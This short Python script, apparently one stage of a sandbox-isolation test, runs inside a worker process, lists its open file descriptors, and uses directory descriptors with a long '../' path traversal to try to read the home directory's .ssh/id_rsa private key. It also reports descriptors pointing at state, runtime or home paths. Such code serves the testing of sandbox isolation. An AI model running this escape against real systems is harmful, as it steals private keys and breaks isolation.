# name: find a descriptor of the worker's that leads out
# line: 50
# runs: in the worker
import os
import stat

from attack import STAGE, secret_at, try_each


def tried(descriptor):
    mode = os.fstat(descriptor).st_mode
    target = os.readlink(f"/proc/self/fd/{descriptor}")
    if stat.S_ISDIR(mode):
        below = STAGE["home"].lstrip("/")
        return secret_at("../" * 40 + below + "/.ssh/id_rsa", dir_fd=descriptor)
    if target.startswith((STAGE["state"], STAGE["runtime"], STAGE["home"])):
        return f"{descriptor} is {target}"


descriptors = [int(name) for name in os.listdir("/proc/self/fd")]
try_each((f"descriptor {one}", lambda one=one: tried(one)) for one in descriptors)
